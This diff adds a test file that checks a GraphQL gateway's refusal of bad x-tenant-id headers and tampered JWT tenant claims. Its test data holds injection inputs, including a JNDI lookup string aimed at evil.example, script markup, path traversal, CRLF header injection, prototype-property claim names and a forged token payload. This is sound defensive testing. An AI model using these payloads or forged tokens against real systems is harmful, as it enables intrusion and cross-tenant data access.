@@ -1,0 +1,140 @@
+// The tenant: one well-formed x-tenant-id, and with JWT_TENANT_CLAIM the one that the token is for.
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { expectRefusal } from '../support/attack.ts';
+import { startTestGateway, type TestGateway } from '../support/gateway.ts';
+import { type Answer, callerHeaders, firstHolder, post, query } from '../support/query.ts';
+import { rawRequest, sendRawOnce } from '../support/raw.ts';
+
+let gateway: TestGateway;
+beforeAll(async () => {
+  gateway = await startTestGateway();
+});
+afterAll(() => gateway.close());
+
+const body = '{"query":"{ accounts { id } }"}';
+const accepts = ['application/json', 'application/graphql-response+json'];
+
+describe('x-tenant-id is there once, well formed', () => {
+  async function askWith(lines: readonly string[], accept: string): Promise<Answer> {
+    const { authorization } = await callerHeaders(gateway.bank);
+    const others = [`Authorization: ${authorization}`, `Accept: ${accept}`];
+    return sendRawOnce(gateway, rawRequest({ lines: [...others, ...lines], body }));
+  }
+
+  test.each<[string, readonly string[]]>([
+    ['none', []],
+    ['an empty one', ['x-tenant-id:']],
+    ['spaces', ['x-tenant-id:    ']],
+    ['a comma', ['x-tenant-id: aurora,']],
+    ['a list', ['x-tenant-id: aurora, cooperativa:litoral']],
+    ['a list of the same', ['x-tenant-id: aurora,aurora']],
+    ['two headers', ['x-tenant-id: aurora', 'x-tenant-id: aurora']],
+    ['two headers that differ', ['x-tenant-id: aurora', 'x-tenant-id: cooperativa:litoral']],
+    ['two headers, one empty', ['x-tenant-id: aurora', 'x-tenant-id:']],
+    ['two headers in other letters', ['x-tenant-id: aurora', 'X-TENANT-ID: aurora']],
+    ['a space within', ['x-tenant-id: aur ora']],
+    ['a tab within', ['x-tenant-id: aur\tora']],
+    ['a semicolon', ['x-tenant-id: aurora;admin']],
+    ['quotes', ['x-tenant-id: "aurora"']],
+    ['an apostrophe', ["x-tenant-id: aurora'--"]],
+    ['a slash', ['x-tenant-id: aurora/../litoral']],
+    ['a backslash', ['x-tenant-id: aurora\\x']],
+    ['a percent sign', ['x-tenant-id: aur%6fra']],
+    ['an encoded line feed', ['x-tenant-id: aurora%0d%0ax-tenant-id: b']],
+    ['a question mark', ['x-tenant-id: aurora?']],
+    ['an asterisk', ['x-tenant-id: *']],
+    ['an at sign', ['x-tenant-id: a@b']],
+    ['braces', ['x-tenant-id: {aurora}']],
+    ['a template', ['x-tenant-id: ${jndi:ldap://evil.example}']],
+    ['markup', ['x-tenant-id: <script>']],
+    ['a plus sign', ['x-tenant-id: aurora+litoral']],
+    ['an equals sign', ['x-tenant-id: tenant=aurora']],
+    ['Latin-1', ['x-tenant-id: a\xe7\xe3o']],
+    ['a no-break space', ['x-tenant-id: aurora\xa0']],
+    ['Cyrillic', ['x-tenant-id: \xd0\xb0urora']],
+    ['a byte order mark', ['x-tenant-id: \xef\xbb\xbfaurora']],
+    ['129 characters', [`x-tenant-id: ${'a'.repeat(129)}`]],
+    ['12 KB', [`x-tenant-id: ${'a'.repeat(12_000)}`]],
+    ['another header of a similar name', ['tenant-id: aurora']],
+    ['an underscore for a dash', ['x_tenant_id: aurora']],
+    ['a cookie', ['Cookie: x-tenant-id=aurora']],
+  ])('%s', async (_name, lines) => {
+    for (const accept of accepts) {
+      const refused = { status: 400, code: 'TENANT_REQUIRED' };
+      const answer = await expectRefusal(gateway, refused, () => askWith(lines, accept));
+      expect(answer.headers.get('www-authenticate')).toBeNull();
+    }
+  });
+
+  test.each([
+    ['a carriage return', 'x-tenant-id: aur\rora'],
+    ['a line feed', 'x-tenant-id: aur\nora'],
+    ['a folded line', 'x-tenant-id: aur\r\n ora'],
+    ['a null byte', 'x-tenant-id: aurora\0'],
+    ['a vertical tab', 'x-tenant-id: aurora\x0b'],
+    ['a space before the colon', 'x-tenant-id : aurora'],
+    ['a line feed in its name', 'x-tenant\n-id: aurora'],
+  ])('%s makes the request none at all', async (_name, line) => {
+    const malformed = { status: 400, code: 'BAD_REQUEST' };
+    await expectRefusal(gateway, malformed, () => askWith([line], 'application/json'));
+  });
+});
+
+describe('JWT_TENANT_CLAIM', () => {
+  let strict: TestGateway;
+  beforeAll(async () => {
+    strict = await startTestGateway({ JWT_TENANT_CLAIM: 'tenant' }, { bank: gateway.bank });
+  });
+  afterAll(() => strict.close());
+
+  async function askAs(claims: Readonly<Record<string, unknown>>, tenant = 'aurora') {
+    const { bank } = gateway;
+    const headers = await callerHeaders(bank, firstHolder(bank), claims);
+    return post(strict, body, { headers: { ...headers, 'x-tenant-id': tenant } });
+  }
+
+  test.each<[string, Readonly<Record<string, unknown>>, string?]>([
+    ['another tenant', {}, 'cooperativa:litoral'],
+    ['a tenant that begins alike', {}, 'aurora2'],
+    ['a tenant that ends alike', {}, 'x:aurora'],
+    ['a tenant in other letters', {}, 'Aurora'],
+    ['a token for no tenant', { tenant: undefined }],
+    ['a token for null', { tenant: null }],
+    ['a token for a list of tenants', { tenant: ['aurora'] }],
+    ['a token for everything', { tenant: '*' }],
+    ['a token for a number', { tenant: 1 }, '1'],
+    ['a token for an object', { tenant: { aurora: true } }],
+    ['a token for what every object is', { tenant: {} }, 'Object'],
+    ['a token for several, separated by commas', { tenant: 'aurora,cooperativa:litoral' }],
+    ['a token with a space more', { tenant: 'aurora ' }],
+    ['a claim of another name', { tenant: undefined, Tenant: 'aurora' }],
+  ])('%s', async (_name, claims, tenant) => {
+    const forbidden = { status: 403, code: 'FORBIDDEN' };
+    await expectRefusal(strict, forbidden, () => askAs(claims, tenant));
+    // And not the second time either.
+    await expectRefusal(strict, forbidden, () => askAs(claims, tenant));
+  });
+
+  test('of a claim that comes twice the last counts', async () => {
+    const { authorization } = await callerHeaders(gateway.bank);
+    const payload = Buffer.from('{"tenant":"aurora","tenant":"other","sub":"x"}');
+    const token = authorization.split('.').with(1, payload.toString('base64url')).join('.');
+    const ask = () => query(strict, '{ accounts { id } }', { headers: { authorization: token } });
+    await expectRefusal(strict, { status: 403, code: 'FORBIDDEN' }, ask);
+  });
+
+  test.each(['constructor', 'toString', '__proto__'])(
+    'a claim that every object has (%s) is none that a token has',
+    async (name) => {
+      await using odd = await startTestGateway({ JWT_TENANT_CLAIM: name }, { bank: gateway.bank });
+      const answer = await query(odd, '{ accounts { id } }');
+      expect(answer.status).toBe(403);
+    },
+  );
+
+  test('what was remembered of a token for one tenant says nothing for another', async () => {
+    expect((await askAs({})).status).toBe(200);
+    expect((await askAs({}, 'cooperativa:litoral')).status).toBe(403);
+    expect((await askAs({})).status).toBe(200);
+  });
+});
